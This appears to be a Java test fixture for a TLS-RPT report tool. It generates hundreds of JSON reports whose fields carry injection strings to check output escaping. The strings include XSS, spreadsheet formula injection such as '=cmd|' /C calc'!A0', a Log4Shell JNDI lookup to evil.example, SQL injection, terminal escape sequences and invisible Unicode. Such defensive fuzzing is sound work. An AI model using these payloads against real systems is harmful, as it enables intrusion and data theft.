package io.github.tlsrpt.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.IntStream;

/** Reports whose every text tries to be more than text, one for each of more than 400 tries. */
final class HostileReports {

    private HostileReports() {}

    static void write(Path folder) throws IOException {
        List<String> texts = texts();
        assertThat(Set.copyOf(texts)).hasSizeGreaterThanOrEqualTo(400);
        for (int i = 0; i < texts.size(); i++) {
            Files.writeString(folder.resolve(i + ".json"), report(i, texts.get(i)));
        }
    }

    /** What no screen, log, spreadsheet or wiki may take for more than text. */
    static List<String> texts() {
        List<String> texts = new ArrayList<>(markup());
        IntStream.concat(
                        IntStream.concat(IntStream.range(0, 0x20), IntStream.rangeClosed(0x7f, 0x9f)),
                        IntStream.of(
                                0x2028, 0x2029, 0x061c, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x2060, 0xfeff, 0x202a,
                                0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x00ad, 0xfff9, 0xe0001,
                                0x1d173))
                .mapToObj(Character::toString)
                .forEach(c -> texts.addAll(List.of("a" + c + "b", c + "=1+1", "mx" + c + ".example.com")));
        texts.addAll(List.of("\ud800", "\udc00x", "a\ud83d", "\ude00\ud83d"));
        for (String blank : List.of("", " ", "\t", "\u00a0", "\u3000", "\r\n", " \u00a0 ")) {
            for (String start : List.of("=cmd|' /C calc'!A0", "+1+1", "-2", "@SUM(1)", "\uff1d1+1", "\"=1", "',=1")) {
                texts.add(blank + start);
            }
        }
        texts.addAll(List.of(
                "\u001b[2J",
                "\u001b]52;c;ZXZpbA==\u0007",
                "\u001b]8;;https://evil.example/\u001b\\x",
                "\u001bPq\u001b\\",
                "\u001b_x\u001b\\",
                "\u009b2J",
                "ok\rfailed",
                "%n%s%x",
                "${jndi:ldap://evil.example/x}",
                "{}",
                "'; DROP TABLE report; --",
                "[a](javascript:alert(1))",
                "![a](https://evil.example/x.png)",
                "<https://evil.example/>",
                "https://evil.example/ www.evil.example a@evil.example",
                "`code` ``` ~~~ ~~x~~ **b** __i__",
                "| a | b |\n| --- | --- |\n| c | d |",
                "\n# Heading\n\n    code",
                "\n\n* item\n1. item\n> quote\n***",
                "[x]: https://evil.example/",
                "a\\",
                "\\|\\`\\<",
                "\u0430pple.example",
                "x".repeat(60_000) + "<script>alert(1)</script>"));
        return texts;
    }

    /** Texts that break out of HTML text, attributes, scripts and styles, out of comments, and out of the mind. */
    private static List<String> markup() {
        List<String> texts = new ArrayList<>();
        for (String payload : List.of(
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg/onload=alert(1)>",
                "</title><script>alert(1)</script>",
                "</style><script>alert(1)</script>",
                "</script><script>alert(1)</script>",
                "</textarea><b>",
                "javascript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "x onmouseover=alert(1)",
                "`onmouseover=alert(1)`",
                "{{constructor.constructor('alert(1)')()}}",
                "${7*7}",
                "@import url(https://evil.example/x.css)",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content=0>",
                "<a href=https://evil.example/>x</a>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;",
                "<![CDATA[<script>]]>")) {
            for (String around : List.of(
                    "%s",
                    "\"%s",
                    "'%s",
                    "-->%s<!--",
                    "\">%s",
                    "'>%s",
                    "\u202e%s",
                    "\u0000%s",
                    "\r\n\r\n%s",
                    "=%s",
                    "/*%s*/",
                    "//%s")) {
                texts.add(around.replace("%s", payload));
            }
        }
        return texts;
    }

    private static String report(int id, String text) {
        StringBuilder json = new StringBuilder();
        text.chars().forEach(c -> json.append(String.format(Locale.ROOT, "\\u%04x", c)));
        return """
                {"organization-name":"%1$s","date-range":{"start-datetime":"2026-10-01T00:00:00Z","end-datetime":"2026-10-01T23:59:59Z"},
                "contact-info":"%1$s","report-id":"%2$d %1$s","policies":[
                {"policy":{"policy-type":"sts","policy-string":["version: STSv1","mode: enforce","mx: %1$s","%1$s"],
                "policy-domain":"%1$s","mx-host":["%1$s"]},
                "summary":{"total-successful-session-count":3,"total-failure-session-count":140},
                "failure-details":[{"result-type":"validation-failure","receiving-mx-hostname":"%1$s","receiving-ip":"%1$s",
                "receiving-mx-helo":"%1$s","sending-mta-ip":"%1$s","additional-information":"%1$s",
                "failed-session-count":70,"failure-reason-code":"%1$s"},
                {"result-type":"%1$s","failed-session-count":70}]}]}
                """.formatted(json, id);
    }
}
